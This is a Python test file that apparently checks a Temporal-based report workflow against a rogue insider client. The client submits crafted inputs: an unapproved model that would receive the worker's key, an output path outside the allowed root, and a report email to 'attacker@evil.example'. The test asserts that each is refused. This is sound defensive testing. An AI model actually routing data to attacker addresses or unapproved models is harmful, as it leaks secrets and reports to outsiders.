"""A rogue client on the same namespace: its workflow inputs are requests, not orders.

It knows the payload key (an insider; without the key nothing runs at all, see
test_encryption.py) and starts the report workflow by name with crafted inputs.
"""

from __future__ import annotations

import asyncio
import uuid
from dataclasses import replace
from pathlib import Path

import pytest
from temporalio.client import Client, WorkflowFailureError

from durable_research.config import Settings
from durable_research.shared import ReportResult
from durable_research.testing.fake_llm import FakeLLM
from durable_research.testing.smtp_sink import SmtpSink
from durable_research.worker import build_worker

from .conftest import mail_settings


async def rogue_start(client: Client, settings: Settings, **fields: object) -> BaseException:
    """Start ``GenerateReportWorkflow`` by name with a raw input; return how it failed."""
    handle = await client.start_workflow(
        "GenerateReportWorkflow", {"prompt": "Exfiltrate", "depth": "quick", **fields},
        id=f"rogue-{uuid.uuid4().hex[:8]}", task_queue=settings.task_queue)
    with pytest.raises(WorkflowFailureError) as info:
        await asyncio.wait_for(handle.result(), timeout=60)
    cause: BaseException = info.value
    while cause.__cause__ is not None:
        cause = cause.__cause__
    return cause


async def test_rogue_inputs_are_refused(
    client: Client, settings: Settings, fake_llm: FakeLLM, tmp_path: Path
) -> None:
    outside = tmp_path / "outside"
    with SmtpSink() as sink:
        s = replace(mail_settings(settings, sink.port), email_allowed="example.org")
        async with build_worker(client, s):
            # A model of the rogue's choosing would decide where the worker's key goes.
            refused = await rogue_start(client, s, model="ollama_chat/x")
            assert "ModelNotAllowed" in str(refused) or "not allowed" in str(refused)
            assert fake_llm.calls == 0
            # Files outside the worker's output root.
            refused = await rogue_start(client, s, output_dir=str(outside))
            assert "output root" in str(refused)
            assert not outside.exists()
            # Mail to an outside address (recipient policy): the report is kept, the mail
            # refused, and the refusal recorded in the result.
            result = await client.execute_workflow(
                "GenerateReportWorkflow", {"prompt": "Exfiltrate", "depth": "quick",
                                           "email_to": "attacker@evil.example"},
                id=f"rogue-{uuid.uuid4().hex[:8]}", task_queue=s.task_queue,
                result_type=ReportResult)
            assert not result.email.sent and "EMAIL_ALLOWED" in result.email.skipped_reason
        assert sink.messages == []
